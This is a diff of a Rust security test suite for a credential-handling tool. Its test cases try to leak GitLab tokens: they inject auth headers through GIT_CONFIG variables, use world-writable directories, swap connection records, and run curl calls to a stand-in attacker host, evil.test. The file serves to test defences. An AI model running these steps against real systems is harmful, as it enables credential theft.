@@ -1,6 +1,6 @@
 //! Ring 1: read a secret where it lies.
 
-use authsome_test_support::kit;
+use authsome_test_support::{Seen, kit};
 use base64::Engine;
 use base64::prelude::BASE64_STANDARD;
 
@@ -10,7 +10,7 @@ use crate::defence::Defence::{
     PrivateFiles, PrivateMemory, SealIdentity, SecretCommands, SessionPlace,
 };
 use crate::machine::{Need, STRANGER};
-use crate::stage::{Stage, directory};
+use crate::stage::{HOST, Stage, directory};
 
 pub(super) fn all() -> Vec<Attempt> {
     let mut all = environment();
@@ -57,7 +57,10 @@ fn environment() -> Vec<Attempt> {
             let basic = BASE64_STANDARD.encode(format!("oauth2:{}", stage.access()));
             stage.variable("GIT_CONFIG_COUNT", "1");
             stage.variable("GIT_CONFIG_KEY_0", "http.extraHeader");
-            stage.variable("GIT_CONFIG_VALUE_0", format!("authorization: basic {basic}"));
+            stage.variable(
+                "GIT_CONFIG_VALUE_0",
+                format!("authorization: basic {basic}"),
+            );
             let said = stage.run(&[])?;
             Ok(stage.leaks(&said))
         }),
@@ -159,64 +162,95 @@ fn files() -> Vec<Attempt> {
         attempt("home that others can change", &[HomeCheck], |stage| {
             stage.connect(7200);
             directory(&stage.world.home(), 0o777);
-            Ok(stage.authsome(&["run", "--", "echo", "it runs"])?.stdout.contains("it runs"))
+            Ok(stage
+                .authsome(&["run", "--", "echo", "it runs"])?
+                .stdout
+                .contains("it runs"))
         }),
-        attempt("session files that others can exchange", &[SessionPlace], |stage| {
-            stage.connect(7200);
-            let place = stage.path("open");
-            directory(&place, 0o777);
-            stage.variable("TMPDIR", &place);
-            let shown = ["run", "--", "sh", "-c", "echo \"$SSL_CERT_FILE\""];
-            let said = stage.authsome(&shown)?;
-            Ok(said.stdout.contains("/open/"))
-        }),
-        attempt("definition with another host", &[ConnectionTerms], |stage| {
-            stage.connect(7200);
-            stage.trust_the_world();
-            let evil = format!("https://evil.test:{}/api/v4/user", stage.gitlab.port());
-            stage.run(&[])?;
-            stage.authsome(&["run", "--", "curl", "-sk", &evil])?;
-            let to_evil = |seen: &authsome_test_support::Seen| {
-                let host = seen.header(":authority").or_else(|| seen.header("host"));
-                host.is_some_and(|host| host.starts_with("evil.test"))
-            };
-            Ok(stage.authorized().iter().any(to_evil))
-        }),
-        attempt("definition without its guard", &[ConnectionTerms], |stage| {
-            stage.connect(7200);
-            stage.run(&[])?;
-            let url = format!("https://gitlab.test:{}/api/v4/projects/1/access_tokens", stage.gitlab.port());
-            stage.authsome(&["run", "--", "curl", "-s", "-d", "name=mine", &url])?;
-            Ok(stage.arrived("POST", "access_tokens"))
-        }),
+        attempt(
+            "session files that others can exchange",
+            &[SessionPlace],
+            |stage| {
+                stage.connect(7200);
+                let place = stage.path("open");
+                directory(&place, 0o777);
+                stage.variable("TMPDIR", &place);
+                let shown = ["run", "--", "sh", "-c", "echo \"$SSL_CERT_FILE\""];
+                let said = stage.authsome(&shown)?;
+                Ok(said.stdout.contains("/open/"))
+            },
+        ),
+        attempt(
+            "definition with another host",
+            &[ConnectionTerms],
+            |stage| {
+                stage.connect(7200);
+                stage.trust_the_world();
+                let evil = format!("evil.gitlab.test:{}", stage.gitlab.port());
+                stage.fact("evil", evil.clone());
+                stage.run(&[])?;
+                let evil = format!("https://{evil}/api/v4/user");
+                stage.authsome(&["run", "--", "curl", "-sk", &evil])?;
+                let to_evil = |seen: &Seen| {
+                    let host = seen.header(":authority").or_else(|| seen.header("host"));
+                    host.is_some_and(|host| host.starts_with("evil."))
+                };
+                Ok(stage.authorized().iter().any(to_evil))
+            },
+        ),
+        attempt(
+            "definition without its guard",
+            &[ConnectionTerms],
+            |stage| {
+                stage.connect(7200);
+                stage.run(&[])?;
+                let url = format!(
+                    "https://gitlab.test:{}/api/v4/projects/1/access_tokens",
+                    stage.gitlab.port()
+                );
+                stage.authsome(&["run", "--", "curl", "-s", "-d", "name=mine", &url])?;
+                Ok(stage.arrived("POST", "access_tokens"))
+            },
+        ),
     ]
 }
 
-/// The record of the user's connection under the name of the attacker's, whose server then gets the
-/// token. Both are stored by the binary itself, as a login does.
+/// The next run is given the connection `narrow`, and gets the account of `wide`. Both are stored by
+/// the binary itself, as a login does.
 fn swap_two_records(stage: &mut Stage) -> Result<bool, String> {
     let _port = kit::port_7998();
     let app = stage.gitlab.register_app(false);
     let browser = kit::browser_script(&stage.path("."), stage.gitlab.ca_file());
     let trusted = stage.world.file("ca.pem", stage.gitlab.ca_pem());
     stage.variable("BROWSER", browser);
-    let mut pairs = Vec::new();
-    for host in ["gitlab.test", "evil.test"] {
-        let base = format!("https://{host}:{}", stage.gitlab.port());
-        let trusted = trusted.display().to_string();
-        stage.authsome(&[
-            "login", "gitlab", "--connection", &host.replace('.', "-"), "--base-url", &base,
-            "--ca-file", &trusted, "--client-id", &app.client_id,
-        ])?;
-        pairs.extend(stage.gitlab.live_pairs().last().cloned());
+    let (base, trusted) = (
+        stage.gitlab.base_url_at(HOST),
+        trusted.display().to_string(),
+    );
+    for name in ["wide", "narrow"] {
+        let words = ["login", "gitlab", "--connection", name, "--base-url", &base];
+        let more = ["--ca-file", &trusted, "--client-id", &app.client_id];
+        stage.authsome(&[&words[..], &more].concat())?;
     }
+    let wide = stage.gitlab.live_pairs().into_iter().next();
+    stage.pair = Some(wide.ok_or("no login")?);
+    stage.run(&["--connection", "gitlab=wide"])?;
     stage.gitlab.clear_seen();
-    stage.run(&[])?;
-    let evil = format!("https://evil.test:{}/api/v4/user", stage.gitlab.port());
-    stage.authsome(&["run", "--", "curl", "-s", &evil])?;
-    stage.pair = pairs.into_iter().next();
+    let url = format!("{base}/api/v4/user");
+    stage.authsome(&[
+        "run",
+        "--connection",
+        "gitlab=narrow",
+        "--",
+        "curl",
+        "-s",
+        &url,
+    ])?;
     let access = stage.access();
-    Ok(!access.is_empty() && stage.gitlab.seen().iter().any(|seen| {
-        seen.headers.iter().any(|(_, value)| value.contains(&access))
-    }))
+    let carries = |seen: &Seen| {
+        seen.headers
+            .iter()
+            .any(|(_, value)| value.contains(&access))
+    };
+    Ok(stage.gitlab.seen().iter().any(carries))
 }
